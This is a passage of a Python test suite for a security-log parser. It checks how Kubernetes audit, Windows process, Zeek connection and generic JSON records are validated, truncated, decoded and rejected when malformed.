    records, errors = parse("k8s_audit", body)
    assert [r.line for r in records] == [1, 3, 8]
    assert [e.line for e in errors] == [2, 4, 6, 7]
    assert errors[0].reason.startswith("invalid JSON")
    assert errors[1].reason == "missing required field stageTimestamp/requestReceivedTimestamp"
    assert errors[2].reason == "unparsable timestamp in time: 'yesterday'"
    assert errors[3].reason.startswith("invalid JSON")


def test_an_unexpected_exception_in_one_record_does_not_stop_the_stream():
    class Fragile(Parser):
        def convert(self, record):
            if record.get("boom"):
                raise KeyError("boom")
            return [{"kind": "other"}]

    items = list(Fragile().parse_stream(ndjson({"a": 1}, {"boom": True}, {"a": 2})))
    assert [type(i).__name__ for i in items] == ["ParsedRecord", "RecordError", "ParsedRecord"]
    assert items[1] == RecordError(2, "KeyError: 'boom'")


def test_huge_strings_are_truncated_in_columns_but_kept_in_raw():
    record = {"EventID": 1, "UtcTime": "2025-01-01 00:00:00.000", "Image": "C:\\x.exe", "CommandLine": "A" * 100_000}
    event = only("windows_process", ndjson(record))
    assert len(event["process_command_line"]) == schema.MAX_STR_LEN
    assert len(event["raw"]["CommandLine"]) == 100_000


def test_over_long_lines_and_deep_nesting_are_rejected_without_stopping():
    deep = "[" * 200 + "]" * 200
    body = b'{"a": "' + b"x" * (MAX_LINE_BYTES + 10) + b'"}\n' + ('{"a": ' + deep + "}\n").encode()
    body += ndjson({"ts": 1735689600, "id.orig_h": "10.0.0.1"})
    records, errors = parse("zeek_conn", body)
    assert [(e.line, e.reason) for e in errors] == [
        (1, f"line longer than {MAX_LINE_BYTES} bytes"),
        (2, "JSON nested deeper than 64 levels"),
    ]
    assert [r.line for r in records] == [3]


def test_values_outside_a_fields_range_are_left_unset():
    row = {"ts": 1735689600, "id.orig_p": 70000, "id.resp_p": -1, "proto": "tcp", "orig_bytes": "12"}
    event = only("zeek_conn", ndjson(row))
    assert "src_port" not in event and "dst_port" not in event
    assert event["bytes_out"] == 12 and event["raw"]["id.orig_p"] == 70000


def test_nan_and_nul_never_reach_storage():
    body = b'{"ts": 1735689600, "orig_bytes": NaN}\n{"ts": 1735689600, "uid": "C\\u0000x", "proto": "tcp"}\n'
    records, errors = parse("zeek_conn", body)
    assert errors[0].line == 1 and "NaN" in errors[0].reason
    assert records[0].event["raw"]["uid"] == "C\ufffdx"


def test_gzip_is_detected_by_magic_bytes_even_on_a_read_only_stream(shared_data):
    payload = gzip.compress((shared_data / K8S / "exec_pod.json").read_bytes())

    class BodyOnly:  # like a request body: read() and nothing else
        def __init__(self, data):
            self._data = io.BytesIO(data)

        def read(self, size=-1):
            return self._data.read(size)

    items = list(get_parser("k8s_audit").parse_stream(BodyOnly(payload)))
    assert [type(i).__name__ for i in items] == ["ParsedRecord"]


def test_utf16_exports_are_decoded():
    record = {"EventID": 1, "UtcTime": "2025-01-01 00:00:00.000", "Image": "C:\\w.exe", "CommandLine": "w"}
    body = json.dumps(record).encode("utf-16")  # with BOM, as PowerShell writes
    assert only("windows_process", body)["process_image"] == "C:\\w.exe"


def test_parse_object_raises_record_rejected_for_an_unusable_record():
    with pytest.raises(RecordRejected, match="kind 0"):
        get_parser("k8s_audit").parse_object({"kind": 0})


def test_generic_json_kind_defaults_to_other_and_must_be_a_known_kind():
    parser = get_parser("generic_json", field_map={"time": "ts", "kind": "type"})
    assert parser.parse_object({"ts": 1735689600, "type": "dns"})[0]["kind"] == "dns"
    with pytest.raises(RecordRejected, match="kind 'weird'"):
        parser.parse_object({"ts": 1735689600, "type": "weird"})
    assert get_parser("generic_json").parse_object({"time": 1735689600})[0]["kind"] == "other"


def test_address_columns_hold_only_real_addresses():
    header = b"#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\n"
    row = b"1700000000.0\tC1\tX10.0.0.238\t1234\tfe80::1%eth0\t80\ttcp\n"
    (event,) = events("zeek_conn", header + row)
    negative = events("zeek_conn", b'{"ts": 1700000000.0, "id.orig_h": "10.0.0.1", "orig_bytes": -5}\n')[0]
    assert "bytes_out" not in negative  # a count cannot be negative
    assert "src_ip" not in event and event["raw"]["id.orig_h"] == "X10.0.0.238"
    assert event["dst_ip"] == "fe80::1"
